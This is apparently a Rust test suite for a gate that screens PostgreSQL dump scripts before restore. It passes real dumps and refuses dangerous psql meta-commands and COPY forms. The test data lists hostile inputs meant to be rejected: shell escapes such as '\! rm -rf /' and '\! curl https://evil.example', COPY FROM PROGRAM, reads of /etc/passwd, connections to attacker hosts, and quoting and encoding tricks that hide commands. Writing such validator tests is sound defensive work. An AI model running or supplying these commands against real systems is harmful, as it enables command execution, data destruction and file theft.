//! Scripts: honest ones pass and are counted, and nothing that would run anything else does.

use base::Severity;
use bundle::{BundleError, BundleKind, SqlGate, SqlVerdict};
use postgres::tools::Program;

use testkit::tool_sets;

use super::bench::{Bench, Shop, dumps, look};

fn judge(script: impl AsRef<[u8]>) -> SqlVerdict {
    let script = script.as_ref();
    let verdict = SqlGate::scan(&mut &script[..], "x").unwrap();
    let mut gate = SqlGate::new();
    script.chunks(3).for_each(|piece| gate.push(piece));
    assert_eq!(gate.finish(), verdict, "the verdict depends on how the script was cut");
    verdict
}

fn refused(script: impl AsRef<[u8]>) -> String {
    let verdict = judge(script.as_ref());
    let first = verdict.refusals.first();
    first.unwrap_or_else(|| panic!("passed: {}", String::from_utf8_lossy(script.as_ref()))).reason.clone()
}

#[test]
fn real_dumps_pass_and_their_rows_are_counted() {
    let Some(dumps) = dumps() else { return };
    for script in [&dumps.plain, &dumps.inserts] {
        let verdict = judge(script);
        assert_eq!(verdict.refusals, []);
        assert!(verdict.is_dump && verdict.is_complete && !verdict.is_cut);
        let rows: u64 = verdict.tables.iter().map(|table| table.rows.unwrap()).sum();
        assert_eq!((verdict.tables.len(), rows), (5, 20_517), "{:?}", verdict.tables);
        let odd = verdict.tables.iter().find(|table| table.schema == "Sch (ema").unwrap();
        assert_eq!((&*odd.name, odd.rows), ("t \"q\" FROM stdin; é", Some(500)));
        assert!(verdict.server_version.unwrap().starts_with('1') && verdict.tool_version.is_some());
    }
    let roles = judge(&dumps.roles);
    assert_eq!((roles.refusals, roles.is_dump), (vec![], true));
}

#[tokio::test]
async fn dumps_of_every_version_pass_with_the_command_that_connects() {
    for set in &tool_sets() {
        let shop = Shop::open(set).await;
        shop.run("postgres", "create database \"it's \\ odd\"").await;
        let verdict = judge(shop.dump(&["-Fp", "-C", "--clean", "--if-exists"]));
        assert_eq!((verdict.refusals, verdict.connects), (vec![], vec!["shop".to_owned()]));
        let all = judge(shop.program(Program::PgDumpall, "postgres", &["--no-role-passwords"], &[]));
        assert_eq!(all.refusals, [], "PostgreSQL {}", set.major());
        assert!(all.connects.contains(&"it's \\ odd".to_owned()), "{:?}", all.connects);
        shop.cluster.remove().await.unwrap();
    }
}

#[test]
fn every_command_that_is_not_on_the_list_is_refused() {
    let cases = [
        "\\! rm -rf /",
        "\\!rm",
        "\\copy t from 'x'",
        "\\i /etc/passwd",
        "\\ir x",
        "\\include x",
        "\\o /tmp/x",
        "\\o |sh",
        "\\w x",
        "\\g |sh",
        "\\gx",
        "select 1 \\gexec",
        "select 1 \\gset",
        "select 1 \\watch",
        "\\setenv X y",
        "\\cd /",
        "\\set x `id`",
        "\\set x y",
        "\\set ON_ERROR_STOP off",
        "\\set ON_ERROR_STOP `id`",
        "\\echo `id`",
        "\\pset pager `id`",
        "\\echo hello \\! id",
        "\\if true",
        "\\edit",
        "\\e",
        "\\prompt x",
        "\\lo_import x",
        "\\lo_export 1 x",
        "\\unknown",
        "\\encoding",
        "\\encoding JOHAB",
        "\\encoding `id`",
        "\\encoding 'SJIS'",
        "\\connect db user evil.example",
        "\\connect postgresql://evil/x",
        "\\c \"host=evil\"",
        "\\connect -reuse-previous=on \"dbname='x' host=evil\"",
        "\\connect \"a\\\"\" \\! id",
        "\\restrict `id`",
        "\\.\\! id",
        "\\timing \\! id",
        "\\;",
        "select 1\\; select 2;",
        "\\gdesc",
        "\\bind `x`",
        "\\s x",
        "\\password",
        "\\crosstabview",
    ];
    for command in cases {
        refused(format!("select 1;\n{command}\nselect 2;\n"));
        refused(command);
        refused(format!("create table t (a text); -- x\n/* a /* b */ c */ {command}"));
    }
}

#[test]
fn the_commands_that_a_dump_writes_are_read() {
    for allowed in [
        "\\connect shop",
        "\\c shop",
        "\\connect \"a b\"\"c\"",
        "\\connect -reuse-previous=on \"dbname='it\\'s'\"",
        "\\restrict aB3",
        "\\unrestrict aB3",
        "\\set ON_ERROR_STOP on",
        "\\set QUIET 1",
        "\\echo 'hello there'",
        "\\encoding UTF8",
        "\\encoding windows950",
        "\\pset pager off",
        "\\.",
    ] {
        assert_eq!(judge(format!("{allowed}\r\nselect 1;")).refusals, [], "{allowed}");
    }
}

#[test]
fn what_looks_like_a_command_within_quotes_comments_and_rows_is_none() {
    let script = r#"
-- \! in a comment
/* \! in /* a nested \! */ one */
select '\! in a text', E'it\'s \! in one', $$ \! in $x$ another $$, $tag$ $$ \! $tag$, "a \! name", U&'\! x', 'it''s \! one';
copy t (a) from stdin;
\! in a row
\\. in a row
$$ ' " /*
\.
select a$$b, $1, 1.5e-3, 0x1F, x'ff', :'unset', arr[1:n], 'a'::text, '[1:2]' :: text;
create function f() returns int begin atomic; select case when true then 1 end; select 2; end;
select 3;
"#;
    let verdict = judge(script);
    assert_eq!(verdict.refusals, []);
    assert_eq!((verdict.tables[0].rows, verdict.statements, verdict.is_cut), (Some(3), 5, false));
}

#[test]
fn commands_that_only_a_careful_reader_sees_are_refused() {
    let cases: [(&str, &str); 24] = [
        ("select 'a\\'; \\! id\n'", "program"),
        ("select E'a\\\\'; \\! id\n", "program"),
        ("-- a comment\r\\! id\n", "program"),
        ("set standard_conforming_strings = off; select 'a\\''; \\! id\n--'\n;", "program"),
        ("create function f() begin atomic; copy t from stdin;\n\\! id\n\\.\nend;", "program"),
        ("select 1 \\echo x\n;", "within a statement"),
        ("\\restrict a\n\\echo x\n", "allows no command"),
        ("\\restrict a\n\\unrestrict b\n", "allows no command"),
        ("select 1e-- \\! id\n", "different ways"),
        ("select 1a$$ \\! id $$;", "different ways"),
        ("select 1e'\\' \\! id", "different ways"),
        ("set standard_conforming_strings = 0;", "quotes"),
        ("set local standard_conforming_strings = off;", "is read"),
        ("select set_config('standard_conforming_strings', 'off', false);", "is read"),
        ("select pg_catalog.set_config('client_encoding', 'SJIS', false);", "is read"),
        ("set local client_encoding = 'SJIS';", "is read"),
        ("set names;", "is read"),
        ("reset client_encoding;", "is read"),
        ("set client_encoding = 'SJIS';\nreset all;", "is read"),
        ("set client_encoding = 'JOHAB';", "cannot read"),
        ("set names 'SJIS'; select 1;", "stands behind"),
        ("-- x\0\n\\! id", "NUL"),
        ("copy t from stdin; \\! id\n\\.\n", "stands behind"),
        (
            "create function f() returns void as $f$ begin copy t from program 'id'; end $f$ language plpgsql;",
            "program",
        ),
    ];
    for (script, reason) in cases {
        let said = judge(script).refusals.into_iter().map(|refusal| refusal.reason).collect::<Vec<_>>();
        assert!(said.iter().any(|said| said.contains(reason)), "{script:?}: {said:?}");
    }
}

#[test]
fn copies_of_programs_and_files_are_refused_however_they_are_written() {
    for script in [
        "copy t from program 'id';",
        "COPY/**/t(a, b)\nFROM\n  PROGRAM $$id$$;",
        "copy (select 1) to program 'sh';",
        "copy t from '/etc/passwd';",
        "copy \"from\" to '/tmp/x';",
        "copy t from E'\\x2fetc/passwd' with (format csv);",
        "select 1; copy binary t from $$x$$;",
    ] {
        let said = refused(script);
        assert!(said.contains("program") || said.contains("file"), "{script}: {said}");
    }
    for script in ["copy (select 1) to stdout;", "copy t from stdin with (encoding 'SJIS');\n\\.\n"] {
        refused(script);
    }
    assert_eq!(judge("copy t (encoding) from stdin;\n\\.\n").refusals, []);
}

#[test]
fn a_refusal_names_the_line_and_a_short_quote() {
    let long = format!("select 1;\n\n\\! curl https://evil.example/{}\x1b[2J\n", "x".repeat(500));
    let refusal = &judge(long).refusals[0];
    assert_eq!(refusal.line, 3);
    assert!(
        refusal.quote.starts_with("\\! curl https://evil") && refusal.quote.chars().count() == 61,
        "{}",
        refusal.quote
    );
    let in_rows = format!("copy t from stdin;\n{}\\.\n\\! id\n", "row\n".repeat(7));
    assert_eq!(judge(in_rows).refusals[0].line, 10);
}

#[test]
fn a_script_that_was_cut_is_said_to_be() {
    for script in
        ["select 1", "select 'a", "/* x", "copy t from stdin;\n1\n", "select $$ a", "create table \"x"]
    {
        assert!(judge(script).is_cut, "{script}");
    }
    let Some(dumps) = dumps() else { return };
    let bench = Bench::new();
    for part in [3, 10, 90] {
        let cut = &dumps.plain[..dumps.plain.len() * part / 100];
        let outcome = look(&bench.file("x", cut), None);
        assert!(matches!(outcome, Err(BundleError::Truncated { .. })), "{part} %");
    }
}

#[test]
fn a_scripts_inspection_shows_its_tables_and_what_must_not_run() {
    let Some(dumps) = dumps() else { return };
    let bench = Bench::new();
    let mut script = dumps.plain.clone();
    script.extend_from_slice(b"\\! curl https://evil.example\n");
    let seen = look(&bench.file("x.sql", script), None).unwrap();
    assert_eq!((seen.kind, seen.rows), (BundleKind::PlainSql, Some(20_517)));
    assert_eq!((seen.findings[0].severity, &*seen.findings[0].title), (Severity::Critical, "Shell command"));
    assert!(seen.findings[0].words.contains("\\! curl"), "{}", seen.findings[0].words);
}
